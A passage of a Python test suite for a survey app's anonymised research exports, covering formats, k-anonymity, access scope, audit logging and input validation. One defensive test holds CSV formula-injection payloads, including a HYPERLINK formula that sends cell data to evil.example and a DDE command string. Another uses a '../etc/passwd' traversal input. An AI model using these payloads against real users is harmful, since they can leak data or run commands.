"""Research exports: every format read back and compared with the database, k-anonymity
against rare combinations and joins of filtered exports, access, audit, bad input."""

from __future__ import annotations

import csv
import datetime as dt
import glob
import io
import json
import os
import re
import tempfile
from collections import Counter
from pathlib import Path
from typing import Any

import httpx
import pyarrow.parquet as pq
import pyreadstat
import pytest
from litestar import Litestar

from survey.auth.guard import hash_token
from survey.export.kanon import smallest_class
from survey.export.microdata import last_complete_month
from survey.questionnaire import LOCAL_ZONE, load_definition, standard_definition_bytes
from survey.tables import ApiToken, AuditLog, Office, Response
from tests.builders import (
    FULL_ANSWERS,
    make_link,
    make_office,
    make_organization,
    make_responses,
    make_staff_user,
)

PASSWORD = "correct-horse-battery"
FORMATS = ("csv", "parquet", "sav", "dta")
QI = (
    "jobcentre",
    "office",
    "office_type",
    "service_type",
    "language",
    "mode",
    "year",
    "quarter",
    "month",
)
ITEMS = ("respect", "understood", "explained", "next_steps", "fits", "waiting", "overall",
         "recommend")  # fmt: skip
STANDARD = load_definition(standard_definition_bytes())


def _quarter_months() -> list[str]:
    """The three months of a complete quarter that ended at least a month ago."""
    last = dt.date.fromisoformat(last_complete_month() + "-01")
    index = last.year * 12 + last.month - 1 - 3
    end = index - (index % 3) + 2  # last month of that quarter
    return [f"{(end - i) // 12:04d}-{(end - i) % 12 + 1:02d}" for i in (2, 1, 0)]


def _when(month: str, day: int = 10) -> dt.datetime:
    return dt.datetime.fromisoformat(f"{month}-{day:02d}T10:00:00+00:00")


class World:
    def __init__(self, **kw: Any) -> None:
        self.__dict__.update(kw)


async def _world(app: Litestar) -> World:
    """A job centre with a big office A and a small office B; one Pashto response in B."""
    engine = app.state.engine
    months = _quarter_months()
    jc = await make_organization("Jobcenter Test")
    other = await make_organization("Jobcenter Fremd")
    a = await make_office("Gross", organization=jc)
    b = await make_office("Klein", organization=jc)
    foreign = await make_office("Fremd", organization=other)
    link_a = await make_link(a)
    link_b = await make_link(b)
    link_kiosk = await make_link(a, mode="kiosk", service_type="placement")
    for i, month in enumerate(months):
        answers = [{**FULL_ANSWERS, "respect": 1 + (j + i) % 5} for j in range(6)]
        await make_responses(engine, link_a, answers, when=_when(month))
        await make_responses(engine, link_kiosk, answers[:5], when=_when(month, 12))
    without_recommend = {k: v for k, v in FULL_ANSWERS.items() if k != "recommend"}
    await make_responses(engine, link_b, [without_recommend] * 5, when=_when(months[1]))
    await make_responses(engine, link_b, [{**FULL_ANSWERS, "overall": 1}], locale="ps",
                         when=_when(months[1], 20))  # fmt: skip
    # four more rare languages in A: with the Pashto one they make five "other"
    await make_responses(engine, link_a, [FULL_ANSWERS] * 2, locale="fa", when=_when(months[0]))
    await make_responses(engine, link_a, [FULL_ANSWERS] * 2, locale="ar", when=_when(months[2]))
    await make_responses(engine, await make_link(foreign), [FULL_ANSWERS] * 7,
                         when=_when(months[0]))  # fmt: skip
    researcher = await make_staff_user("forscherin", PASSWORD, "researcher", organization=jc)
    token = "rz_test_" + "x" * 30
    await ApiToken(user=researcher, name="t", token_hash=hash_token(token),
                   created_at=dt.datetime.now(dt.UTC)).save()  # fmt: skip
    return World(jc=jc, other=other, a=a, b=b, foreign=foreign, months=months, token=token,
                 researcher=researcher)  # fmt: skip


def _read(fmt: str, data: bytes, tmp_path: Path) -> tuple[list[str], list[tuple[int, ...]], Any]:
    """Columns, rows and the labels of a file, read back with each format's own reader."""
    path = tmp_path / f"export.{fmt}"
    path.write_bytes(data)
    if fmt == "csv":
        text = data.decode()
        sep = ";" if text.split("\r\n", 1)[0].count(";") else ","
        rows = list(csv.reader(io.StringIO(text), delimiter=sep))
        return rows[0], [tuple(int(v) for v in r) for r in rows[1:]], None
    if fmt == "parquet":
        table = pq.read_table(path)
        names = table.column_names
        columns = [table.column(n).to_pylist() for n in names]
        return names, list(zip(*columns, strict=True)), table.schema
    reader = pyreadstat.read_sav if fmt == "sav" else pyreadstat.read_dta
    kwargs = {"user_missing": True} if fmt == "sav" else {}
    frame, meta = reader(str(path), **kwargs)
    names = list(frame.columns)
    rows = [tuple(int(v) for v in r) for r in frame.itertuples(index=False, name=None)]
    return names, rows, meta


async def _get(client: httpx.AsyncClient, token: str, **params: str) -> httpx.Response:
    return await client.get(
        "/api/v1/exports/responses", params=params,
        headers={"authorization": f"Bearer {token}"},
    )  # fmt: skip


def _qi(names: list[str], rows: list[tuple[int, ...]]) -> list[tuple[int, ...]]:
    at = [names.index(n) for n in QI]
    return [tuple(r[i] for i in at) for r in rows]


@pytest.mark.parametrize("fmt", FORMATS)
async def test_it_exports_each_format_with_the_databases_values_and_labels(
    client: httpx.AsyncClient, app: Litestar, tmp_path: Path, fmt: str
) -> None:
    w = await _world(app)
    answer = await _get(client, w.token, format=fmt, office=str(w.a), labels="en")
    assert answer.status_code == 200, answer.text
    names, rows, meta = _read(fmt, answer.content, tmp_path)
    assert names == ["jobcentre", "office", "office_type", "service_type", "language", "mode",
                     "version", "year", "quarter", "month", *ITEMS]  # fmt: skip
    # what the database holds for office A in German (every such cell has ≥ 5 responses)
    expected = []
    for r in await Response.select().where((Response.office == w.a) & (Response.locale == "de")):
        answers = {
            a["item"]: a["value"]
            for a in await Response.raw(
                "SELECT item, value FROM answer WHERE response = {}", r["id"]
            )
        }
        day = r["day"] if isinstance(r["day"], dt.date) else dt.date.fromisoformat(r["day"])
        expected.append((
            w.jc, w.a, 1, {"benefits": 1, "placement": 2}[r["service_type"]], 1,
            {"personal": 1, "kiosk": 2}[r["mode"]], r["version"], day.year,
            (day.month - 1) // 3 + 1, day.month, *(answers.get(i, -1) for i in ITEMS),
        ))  # fmt: skip
    assert sorted(rows) == sorted(expected)
    assert int(answer.headers["x-resonanz-rows"]) == len(expected) == 33
    respect = next(i for i in STANDARD.items if i.code == "respect")
    scale_labels = {int(k): v for k, v in STANDARD.scales["agree5"].labels["en"].items()}
    if fmt == "parquet":
        field = meta.field("respect")
        assert field.metadata[b"label"].decode() == respect.text["en"]
        assert field.metadata[b"question_de"].decode() == respect.text["de"]
        values = json.loads(field.metadata[b"values"])
        assert {int(k): v for k, v in values.items()} == scale_labels
        assert json.loads(meta.field("office").metadata[b"missing"]) == {
            "-3": "withheld (anonymization)"
        }
        assert b"resonanz.codebook" in meta.metadata
    elif fmt in ("sav", "dta"):
        labels = dict(zip(meta.column_names, meta.column_labels, strict=True))
        assert labels["respect"] == respect.text["en"]
        value_labels = meta.variable_value_labels["respect"]
        assert {int(k): v for k, v in value_labels.items() if k > 0} == scale_labels
        assert value_labels[-1] == "not answered"
        office_labels = {int(k): v for k, v in meta.variable_value_labels["office"].items()}
        assert office_labels[w.a].endswith("Gross " + office_labels[w.a].split()[-1])
        if fmt == "sav":
            assert meta.missing_ranges["respect"] == [{"lo": -2.0, "hi": -1.0}]


async def _all_formats(
    client: httpx.AsyncClient, token: str, tmp_path: Path, **params: str
) -> dict[str, tuple[list[str], list[tuple[int, ...]]]]:
    out = {}
    for fmt in FORMATS:
        answer = await _get(client, token, format=fmt, **params)
        assert answer.status_code == 200, answer.text
        names, rows, _ = _read(fmt, answer.content, tmp_path)
        out[fmt] = (names, rows)
    return out


async def test_no_row_rarer_than_k_leaves_the_server_in_any_format_with_or_without_filters(
    client: httpx.AsyncClient, app: Litestar, tmp_path: Path
) -> None:
    w = await _world(app)
    m1, m2, m3 = w.months
    unfiltered = await _all_formats(client, w.token, tmp_path)
    names, rows = unfiltered["csv"]
    assert all(sorted(unfiltered[f][1]) == sorted(rows) for f in FORMATS)  # the same rows
    # in a random order: not the order of submission (which would tell more than the month)
    assert len({tuple(unfiltered[f][1]) for f in FORMATS}) > 1
    months = [r[names.index("month")] for r in rows if r[names.index("month")] > 0]
    assert months != sorted(months)
    assert smallest_class(_qi(names, rows)) >= 5
    lang, office, month = names.index("language"), names.index("office"), names.index("month")
    assert all(r[lang] != 9 for r in rows)  # Pashto (code 9) never appears as such
    # the Pashto response is there, generalized: office withheld, language "other", quarter
    other = [r for r in rows if r[lang] == 99]
    assert len(other) == 5
    assert all(r[office] == -3 and r[month] == -3 for r in other)
    foreign_rows = [r for r in rows if r[names.index("jobcentre")] == w.other]
    assert foreign_rows == []  # another job centre's responses never reach this researcher
    filters: list[dict[str, str]] = [
        {"from": m2, "to": m2},
        {"office": str(w.b)},
        {"language": "other", "from": m1, "to": m3},
    ]
    for params in filters:
        filtered = await _all_formats(client, w.token, tmp_path, **params)
        for fmt, (f_names, f_rows) in filtered.items():
            assert f_names == names
            if f_rows:
                assert smallest_class(_qi(f_names, f_rows)) >= 5, (params, fmt)
            # every filtered row is a row of the unfiltered export, value for value: joining
            # the two can give nothing finer than the unfiltered export, which is k-anonymous
            assert not Counter(f_rows) - Counter(rows), (params, fmt)
            assert all(r[lang] != 9 for r in f_rows)
            # the small office's rows of month 2 never narrow to the Pashto response
            assert not [r for r in f_rows if r[office] == w.b and r[lang] != 1], (params, fmt)
    assert (await _all_formats(client, w.token, tmp_path, language="ps"))["csv"][1] == []


async def test_it_lets_researchers_reach_exports_only_and_checks_scope_and_input(
    client: httpx.AsyncClient, app: Litestar, staff: Any
) -> None:
    w = await _world(app)
    login = await staff.login("forscherin", PASSWORD)
    assert login.status_code == 303 and login.headers["location"] == "/export"
    page = await client.get("/export")
    assert page.status_code == 200 and 'data-testid="export-form"' in page.text
    assert 'data-testid="export-rows"' in page.text
    assert (await client.get("/dashboard")).status_code == 403
    assert (await client.get("/export/comments")).status_code == 403  # no comments
    assert (await client.get("/export/responses?format=sav")).status_code == 200
    bearer = {"authorization": f"Bearer {w.token}"}
    api = "/api/v1/exports/responses"
    cases = [
        ({"format": "xlsx"}, 400, "format must be one of"),
        ({"from": "2026-13"}, 400, "month like"),
        ({"from": "last year"}, 400, "month like"),
        ({"to": dt.datetime.now(LOCAL_ZONE).strftime("%Y-%m")}, 400, "last complete month"),
        ({"from": w.months[2], "to": w.months[0]}, 400, "from > to"),
        ({"office": str(w.foreign)}, 403, "office"),
        ({"jobcentre": str(w.other)}, 403, "job centre"),
        ({"office": "abc"}, 400, "number"),
        ({"service_type": "x"}, 400, "service_type"),
        ({"labels": "fr"}, 400, "labels"),
    ]
    for params, status, reason in cases:
        answer = await client.get(api, params=params, headers=bearer)
        assert answer.status_code == status, (params, answer.text)
        assert reason in answer.json()["detail"], (params, answer.text)
    german = {  # the researcher's page says it in German (a tester saw the API's English)
        "format=csv&from=2026-13": "Von (Monat): bitte einen Monat wie 2026-03 angeben",
        "format=csv&service_type=zzz": "Leistungsbereich: erlaubt sind",
        "format=csv&labels=fr": "Beschriftungen auf: erlaubt sind de, en",
        "format=xyz": "Format: erlaubt sind",
    }
    for query, reason in german.items():
        answer = await client.get(f"/export/responses?{query}")
        assert answer.status_code == 400 and reason in answer.text, (query, answer.text[-1500:])
        assert "must be" not in answer.text, query
    assert (await client.get("/api/v1/results/overview", headers=bearer)).status_code == 403
    past = dt.datetime.now(dt.UTC) - dt.timedelta(days=1)
    await ApiToken.update({ApiToken.expires_at: past}).where(ApiToken.user == w.researcher)
    assert (await client.get(api, headers=bearer)).status_code == 401
    future = dt.datetime.now(dt.UTC) + dt.timedelta(days=1)
    await ApiToken.update({ApiToken.expires_at: future}).where(ApiToken.user == w.researcher)
    assert (await client.get(api, headers=bearer)).status_code == 200
    await ApiToken.update({ApiToken.revoked: True}).where(ApiToken.user == w.researcher)
    assert (await client.get(api, headers=bearer)).status_code == 401
    assert (await client.get(api, headers={"authorization": "Bearer nope"})).status_code == 401


async def test_a_token_scoped_to_one_job_centre_exports_only_that_one(
    client: httpx.AsyncClient, app: Litestar
) -> None:
    w = await _world(app)
    from survey.tables import Membership

    await Membership(user=w.researcher, role="researcher", organization=w.other).save()
    both, only_other = "rz_test_both_" + "y" * 30, "rz_test_other_" + "z" * 30
    for token, limit in ((both, []), (only_other, [w.other])):
        await ApiToken(user=w.researcher, name=token[:12], token_hash=hash_token(token),
                       created_at=dt.datetime.now(dt.UTC), organizations=limit).save()  # fmt: skip
    jc = {}
    for token in (both, only_other):
        answer = await _get(client, token)
        assert answer.status_code == 200, answer.text
        rows = list(csv.reader(io.StringIO(answer.text)))
        jc[token] = {int(r[rows[0].index("jobcentre")]) for r in rows[1:]}
    assert jc[both] == {w.jc, w.other}
    assert jc[only_other] == {w.other}
    for params, reason in (
        ({"jobcentre": str(w.jc)}, "job centre"),
        ({"office": str(w.a)}, "office"),
    ):
        answer = await _get(client, only_other, **params)
        assert answer.status_code == 403 and reason in answer.json()["detail"], answer.text
    codebook = await client.get(
        "/api/v1/exports/codebook", headers={"authorization": f"Bearer {only_other}"}
    )
    assert [n[:15] for n in codebook.json()["jobcentres"]] == ["Jobcenter Fremd"]
    # a token limited to a job centre its user has no role in opens no export at all
    await ApiToken.update({ApiToken.organizations: [w.jc]}).where(
        ApiToken.token_hash == hash_token(only_other)
    )
    await Membership.delete().where(Membership.organization == w.jc)
    answer = await _get(client, only_other)
    assert answer.status_code == 403, answer.text


async def test_every_export_writes_an_audit_entry_with_filters_rows_and_anonymization(
    client: httpx.AsyncClient, app: Litestar
) -> None:
    w = await _world(app)
    answer = await _get(client, w.token, format="csv", service_type="benefits")
    assert answer.status_code == 200
    entries = await AuditLog.select().where(AuditLog.action == "export")
    assert len(entries) == 1
    detail = entries[0]["detail"]
    if isinstance(detail, str):
        detail = json.loads(detail)
    assert entries[0]["user"] == w.researcher and entries[0]["username"] == "forscherin"
    assert detail["filters"] == {"service_type": "benefits"}
    assert detail["rows"] == int(answer.headers["x-resonanz-rows"]) > 0
    assert detail["anonymization"]["k"] == 5
    assert detail["anonymization"]["smallest_class"] >= 5
    assert detail["via"] == "api" and detail["format"] == "csv"


async def test_managers_export_masked_comments_by_month_apart_from_the_rows(
    client: httpx.AsyncClient, app: Litestar, staff: Any
) -> None:
    w = await _world(app)
    link = await make_link(w.a)
    comment = {**FULL_ANSWERS, "comment": "Frau Schneider war toll, ruft mich an: 0171 2345678"}
    await make_responses(app.state.engine, link, [comment], when=_when(w.months[0]))
    await make_staff_user("leitung", PASSWORD, "manager", organization=w.jc)
    await staff.login("leitung", PASSWORD)
    answer = await client.get("/export/comments", params={"labels": "de"})
    assert answer.status_code == 200, answer.text
    # t23's finding 9: a German page's download was comma-separated, unlike every other one
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["jobcentre", "office", "year", "month", "item", "text"], "the codes"
    assert len(rows) == 2
    assert "Schneider" not in rows[1][5] and "2345678" not in rows[1][5]
    assert rows[1][2:5] == [w.months[0][:4], str(int(w.months[0][5:])), "comment"]
    page = await client.get("/export?lang=de")
    href = re.search(r'href="(/export/comments\?[^"]+)" data-testid="comments-download"', page.text)
    assert href and "sep=semicolon" in href[1], "the page's link carries its separator"
    english = await client.get("/export?lang=en")
    href = re.search(r'href="(/export/comments\?[^"]+)"', english.text)
    assert href and "sep=comma" in href[1]
    chosen = await client.get("/export/comments", params={"labels": "de", "sep": "comma"})
    assert chosen.content.decode("utf-8-sig").startswith("jobcentre,office,year")
    api = await client.get("/api/v1/exports/comments", params={"labels": "de"})
    assert api.content.decode("utf-8-sig").startswith("jobcentre,office,year"), "scripts: commas"
    # r25: a separator other than comma or semicolon failed after the 200 was sent, and the
    # export was in the audit log already; now a 400 before anything is read or logged
    logged = await AuditLog.count().where(AuditLog.action == "export")
    for path in ("/export/comments", "/api/v1/exports/comments"):
        for bad in ("xx", '"', "\n"):
            refused = await client.get(path, params={"labels": "de", "sep": bad})
            assert refused.status_code == 400 and "sep" in refused.text, (path, bad)
    assert await AuditLog.count().where(AuditLog.action == "export") == logged


async def test_the_comments_export_holds_back_what_the_office_page_withholds(
    client: httpx.AsyncClient, app: Litestar, staff: Any
) -> None:
    # t20: the export gave the comments of months whose figure the office page withholds (too
    # few responses), and of comments an admin had hidden; the page shows neither
    from survey.tables import TextAnswer

    w = await _world(app)
    engine = app.state.engine
    said = {"kept": "Alles gut erklärt", "small": "Klein hat zu wenige", "hidden": "Bitte weg",
            "fast": "Zu schnell"}  # fmt: skip
    link_a, link_b = await make_link(w.a), await make_link(w.b)
    comment = {**FULL_ANSWERS, "comment": said["kept"]}
    await make_responses(engine, link_a, [comment], when=_when(w.months[0]))
    await make_responses(engine, link_a, [{**FULL_ANSWERS, "comment": said["hidden"]}],
                         when=_when(w.months[0]))  # fmt: skip
    await make_responses(engine, link_a, [{**FULL_ANSWERS, "comment": said["fast"]}],
                         when=_when(w.months[0]), flagged=True)  # fmt: skip
    await make_responses(engine, link_b, [{**FULL_ANSWERS, "comment": said["small"]}],
                         when=_when(w.months[1]))  # fmt: skip
    await TextAnswer.update({TextAnswer.hidden: True}).where(TextAnswer.text == said["hidden"])
    await make_staff_user("leitung", PASSWORD, "manager", organization=w.jc)
    await staff.login("leitung", PASSWORD)
    period = {"from": w.months[0], "to": w.months[-1]}
    answer = await client.get("/export/comments", params={"labels": "de", "sep": "comma", **period})
    assert answer.status_code == 200, answer.text
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))[1:]
    assert [r[5] for r in rows] == [said["kept"]]
    for office, name in ((w.a, "Gross"), (w.b, "Klein")):  # exported months are shown ones
        page = (await client.get(f"/api/v1/results/offices/{office}", params=period)).json()
        exported = {(r[2], r[3]) for r in rows if r[1].endswith(name)}
        withheld = {(m[:4], str(int(m[5:]))) for m in page["comments_withheld"]}
        assert not exported & withheld
    assert w.months[1] in (await client.get(
        f"/api/v1/results/offices/{w.b}", params=period)).json()["comments_withheld"]  # fmt: skip


async def test_comments_and_names_typed_as_formulas_reach_the_spreadsheet_as_text(
    client: httpx.AsyncClient, app: Litestar, staff: Any
) -> None:
    # a client's comment is typed by anyone who has the link; an office's name by an admin of
    # another job centre: neither may run as a formula in the CSV a manager opens (t18, #1)
    w = await _world(app)
    await Office.update({Office.name: '=HYPERLINK("http://evil.example","Klick")'}).where(
        Office.id == w.a
    )
    link = await make_link(w.a)
    typed = ['=HYPERLINK("http://evil.example/?x="&A1,"Klick")', "+cmd|'/C calc'!A0", "-2+3"]
    answers = [{**FULL_ANSWERS, "comment": t} for t in typed]
    await make_responses(app.state.engine, link, answers, when=_when(w.months[0]))
    await make_staff_user("leitung", PASSWORD, "manager", organization=w.jc)
    await staff.login("leitung", PASSWORD)
    answer = await client.get("/export/comments", params={"labels": "de", "sep": "comma"})
    assert answer.status_code == 200, answer.text
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert sorted(r[5] for r in rows[1:]) == sorted("'" + t for t in typed)
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    assert all('=HYPERLINK("http://evil.example","Klick")' in r[1] for r in rows[1:])


async def test_the_comments_export_refuses_the_month_in_progress_in_the_reader_s_language(
    client: httpx.AsyncClient, app: Litestar, staff: Any
) -> None:
    w = await _world(app)
    await make_staff_user("leitung", PASSWORD, "manager", organization=w.jc)
    await staff.login("leitung", PASSWORD)
    later = f"{dt.date.today().year + 1}-01"  # after the last complete month, whatever the zone
    answer = await client.get("/export/comments", params={"to": later})
    assert answer.status_code == 400
    assert "darf nicht nach" in answer.text and "letzten vollständigen Monat" in answer.text


async def test_a_client_leaving_mid_stream_leaves_nothing_behind(
    app: Litestar, client: httpx.AsyncClient, settings: Any, tmp_path: Any, monkeypatch: Any
) -> None:
    # the exports' temporary files go to this test's own directory: the other workers' exports
    # in the system's could come and outlive the wait below (r30)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    w = await _world(app)
    before = set(glob.glob(os.path.join(tempfile.gettempdir(), "resonanz-export-*")))
    sent: list[dict[str, Any]] = []
    gone = False

    async def receive() -> dict[str, Any]:
        import asyncio

        while not gone:
            await asyncio.sleep(0.01)
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        nonlocal gone
        sent.append(message)
        if message["type"] == "http.response.body" and message.get("body"):
            gone = True  # the client goes away after the first piece of the file
            raise OSError("client disconnected")

    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "GET",
        "scheme": "http", "path": "/api/v1/exports/responses", "raw_path": b"",
        "query_string": b"format=sav", "root_path": "", "server": ("testserver", 80),
        "client": ("127.0.0.1", 5000), "app": app,
        "headers": [(b"authorization", f"Bearer {w.token}".encode()), (b"host", b"testserver")],
    }  # fmt: skip
    import contextlib

    with contextlib.suppress(Exception):  # Litestar re-raises it as LitestarException
        await app(scope, receive, send)  # type: ignore[arg-type]
    assert sent[0]["status"] == 200
    import asyncio

    # nothing new left
    for _ in range(250):  # the generator's cleanup may run just after the app returns
        if set(glob.glob(os.path.join(tempfile.gettempdir(), "resonanz-export-*"))) <= before:
            break
        await asyncio.sleep(0.02)
    assert set(glob.glob(os.path.join(tempfile.gettempdir(), "resonanz-export-*"))) <= before
    if not settings.is_sqlite:
        import asyncpg

        conn = await asyncpg.connect(settings.database_url)
        try:
            open_exports = await conn.fetchval(
                "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
                "AND query LIKE '%LEFT JOIN answer a ON a.response = r.id%' "
                "AND pid <> pg_backend_pid()"
            )
        finally:
            await conn.close()
        assert open_exports == 0


async def test_the_export_page_reuses_the_anonymization_until_the_data_change(
    client: httpx.AsyncClient, app: Litestar, staff: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    import re

    from survey.export import queries

    w = await _world(app)
    counted: list[int] = []
    for reader in (queries.SQLiteReader, queries.PostgresReader):

        async def counting(self: Any, *args: Any, _original: Any = reader.cell_counts) -> Any:
            counted.append(1)
            return await _original(self, *args)

        monkeypatch.setattr(reader, "cell_counts", counting)

    async def rows(**params: str) -> int:
        page = await client.get("/export", params=params)
        assert page.status_code == 200, page.text
        found = re.search(r'data-testid="export-rows">(\d+)<', page.text)
        assert found, page.text
        return int(found[1])

    await staff.login("forscherin", PASSWORD)
    first = await rows()
    assert len(counted) == 1
    assert await rows() == first and await rows(service_type="placement") < first
    assert len(counted) == 1  # the same scope: counted and generalized once
    export = await client.get("/export/responses", params={"format": "csv"})
    assert int(export.headers["x-resonanz-rows"]) == first and len(counted) == 1
    # an import of responses into a past month changes what is published
    link = await make_link(w.a)
    await make_responses(app.state.engine, link, [FULL_ANSWERS] * 5, when=_when(w.months[0]))
    assert await rows() == first + 5 and len(counted) == 2
    # so does a deletion (retention): the small office's six responses go
    removed = await Response.select(Response.id).where(Response.office == w.b)
    from survey.tables import Answer, TextAnswer

    ids = [r["id"] for r in removed]
    await Answer.delete().where(Answer.response.is_in(ids))
    await TextAnswer.delete().where(TextAnswer.response.is_in(ids))
    await Response.delete().where(Response.id.is_in(ids))
    after = await rows()
    assert len(counted) == 3 and after < first + 5
    book = (await client.get("/export/codebook", params={"as": "json"})).json()
    assert book["rows"] == after and len(counted) == 3


async def test_a_narrower_scope_publishes_a_job_centres_rows_the_same_way(
    client: httpx.AsyncClient, app: Litestar
) -> None:
    """Attack: export the same job centre through two scopes (a token limited to it, and an
    office-level researcher) and join. Each row of the narrower exports is a row of the job
    centre's own export, value for value: the generalization depends on the job centre's
    responses only, never on who asks."""
    from survey.tables import Membership

    w = await _world(app)
    await Membership(user=w.researcher, role="researcher", organization=w.other).save()
    narrow = "rz_test_narrow_" + "n" * 30
    await ApiToken(user=w.researcher, name="narrow", token_hash=hash_token(narrow),
                   created_at=dt.datetime.now(dt.UTC), organizations=[w.jc]).save()  # fmt: skip
    office_user = await make_staff_user("buero", PASSWORD, "researcher", office=w.a)
    office_token = "rz_test_office_" + "o" * 30
    await ApiToken(user=office_user, name="office", token_hash=hash_token(office_token),
                   created_at=dt.datetime.now(dt.UTC)).save()  # fmt: skip

    def parsed(answer: httpx.Response) -> tuple[list[str], list[tuple[int, ...]]]:
        assert answer.status_code == 200, answer.text
        table = list(csv.reader(io.StringIO(answer.text)))
        return table[0], [tuple(int(v) for v in r) for r in table[1:]]

    names, wide = parsed(await _get(client, w.token))
    jc = names.index("jobcentre")
    of_jc = [r for r in wide if r[jc] == w.jc]
    _, by_token = parsed(await _get(client, narrow))
    assert sorted(by_token) == sorted(of_jc)
    _, by_office = parsed(await _get(client, office_token))
    assert by_office and not Counter(by_office) - Counter(of_jc)
    office = names.index("office")
    assert {r[office] for r in by_office} == {w.a}  # never the withheld rows of the centre
    assert smallest_class(_qi(names, by_office)) >= 5


async def test_a_token_of_a_locked_or_deactivated_user_gets_401_and_bad_formats_400(
    client: httpx.AsyncClient, app: Litestar, staff: Any
) -> None:
    from survey.tables import User

    w = await _world(app)
    assert (await _get(client, w.token)).status_code == 200
    for bad in ("xlsx", "CSV", "csv ", "../etc/passwd"):
        answer = await _get(client, w.token, format=bad)
        assert answer.status_code == 400, (bad, answer.text)
    await staff.login("forscherin", PASSWORD)
    assert (await client.get("/export/responses", params={"format": "xlsx"})).status_code == 400
    client.cookies.clear()
    soon = dt.datetime.now(dt.UTC) + dt.timedelta(hours=1)
    await User.update({User.locked_until: soon}).where(User.id == w.researcher)
    assert (await _get(client, w.token)).status_code == 401
    await User.update({User.locked_until: None, User.active: False}).where(User.id == w.researcher)
    assert (await _get(client, w.token)).status_code == 401
    entries = await AuditLog.select().where(AuditLog.action == "export")
    assert len(entries) == 1  # only the one export that was allowed


async def test_items_packed_several_columns_wide_read_back_the_same(
    client: httpx.AsyncClient, app: Litestar, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The row query packs the answers of several items into one integer column; with wide
    fields (three items a column) the file is the same as with one column for all."""
    from survey.export import microdata

    w = await _world(app)

    async def sorted_rows() -> list[list[str]]:
        answer = await _get(client, w.token)
        assert answer.status_code == 200, answer.text
        table = list(csv.reader(io.StringIO(answer.text)))
        return [table[0], *sorted(table[1:])]

    narrow = await sorted_rows()
    monkeypatch.setattr(microdata, "MIN_ITEM_BITS", 20)
    assert await sorted_rows() == narrow
    recommend = narrow[0].index("recommend")
    assert {r[recommend] for r in narrow[1:]} >= {"-1", str(FULL_ANSWERS["recommend"])}


async def test_a_first_export_reads_its_rows_with_the_cells_and_gives_the_same_file(
    client: httpx.AsyncClient, app: Litestar, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A first export of a scope reads its rows in the pass that counts the cells (on
    PostgreSQL one binary COPY); with the anonymization kept it reads them alone, and so it
    does after a service type outside the vocabulary. The cells are those of a plain GROUP
    BY, the file the same each way."""
    from survey.export import microdata, queries

    w = await _world(app)
    reads: list[int] = []
    rows = queries.Reader.rows

    def counting(self: Any, query: Any) -> Any:
        reads.append(1)
        return rows(self, query)

    monkeypatch.setattr(queries.Reader, "rows", counting)

    async def export(keep: bool) -> list[list[str]]:
        if not keep:
            microdata._decided.clear()
        answer = await _get(client, w.token)
        assert answer.status_code == 200, answer.text
        table = list(csv.reader(io.StringIO(answer.text)))
        return [table[0], *sorted(table[1:])]

    for odd in (False, True):
        if odd:
            link = await make_link(w.a, service_type="retraining")
            await make_responses(app.state.engine, link, [FULL_ANSWERS] * 6,
                                 when=_when(w.months[1]))  # fmt: skip
        reads.clear()
        first = await export(keep=False)
        assert len(reads) == odd and len(first) > 40
        assert await export(keep=True) == first and len(reads) == 1 + odd
        reader = await queries.open_reader(settings)
        try:
            assert reader.second is not None  # type: ignore[attr-defined]
            last_day = microdata.month_range(last_complete_month())[1]
            mine = await reader.cell_counts([w.a, w.b], last_day)
            plain = await queries.Reader._cell_counts_by_value(reader, [w.a, w.b], last_day)
        finally:
            await reader.close()
        assert Counter(mine) == Counter(plain)
        assert any(c[1] == "retraining" for c in mine) == odd
        # each half of the ids on its own connection (one snapshot), either way
        monkeypatch.setattr(queries, "SPLIT_IDS", 0)
        reads.clear()
        assert await export(keep=False) == first and await export(keep=True) == first
        assert len(reads) == 1 + odd
        monkeypatch.setattr(queries, "SPLIT_IDS", 2 * queries.CHUNK_ROWS)


def test_resonanz_export_writes_the_file_and_its_codebook(
    sqlite_settings: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Any
) -> None:
    from survey.cli import main
    from survey.db import engine_lifespan, make_engine
    from tests.conftest import run_async

    async def setup() -> None:
        engine = make_engine(sqlite_settings)
        async with engine_lifespan(engine, 1):
            link = await make_link(await make_office())
            month = _quarter_months()[0]
            await make_responses(engine, link, [FULL_ANSWERS] * 6, when=_when(month))

    run_async(setup())
    monkeypatch.setenv("RESONANZ_DATABASE_URL", sqlite_settings.database_url)
    monkeypatch.setenv("RESONANZ_SECRET_KEY", sqlite_settings.secret_key)
    out = tmp_path / "out" / "antworten.dta"
    out.parent.mkdir()
    assert main(["export", "--format", "dta", "--out", str(out), "--lang", "en"]) == 0
    assert "wrote 6 rows" in capsys.readouterr().out
    frame, meta = pyreadstat.read_dta(str(out))
    assert len(frame) == 6 and list(frame["overall"]) == [FULL_ANSWERS["overall"]] * 6
    assert meta.variable_value_labels["mode"][1].startswith("Personal")
    book = (out.parent / "antworten.dta.codebook.json").read_bytes()
    assert b'"rows": 6' in book
    assert "## Variables" in (out.parent / "antworten.dta.codebook.md").read_text()
    assert main(["export", "--from", "2026-13", "--out", str(out.parent / "x.csv")]) == 2
    assert "month like 2026-03" in capsys.readouterr().err
    assert sorted(p.name for p in out.parent.iterdir()) == [
        "antworten.dta", "antworten.dta.codebook.json", "antworten.dta.codebook.md",
    ]  # fmt: skip

    async def audit() -> list[dict[str, Any]]:
        engine = make_engine(sqlite_settings)
        async with engine_lifespan(engine, 1):
            return await AuditLog.select().where(AuditLog.action == "export")

    (entry,) = run_async(audit())
    assert entry["username"] == "cli" and entry["user"] is None


def test_sqlite_reads_in_two_halves_at_once_what_it_reads_in_one(
    sqlite_settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """SQLite's reader counts cells as integer keys and reads on two connections of one
    snapshot, each for half the ids: the cells are those of a plain GROUP BY, and the file
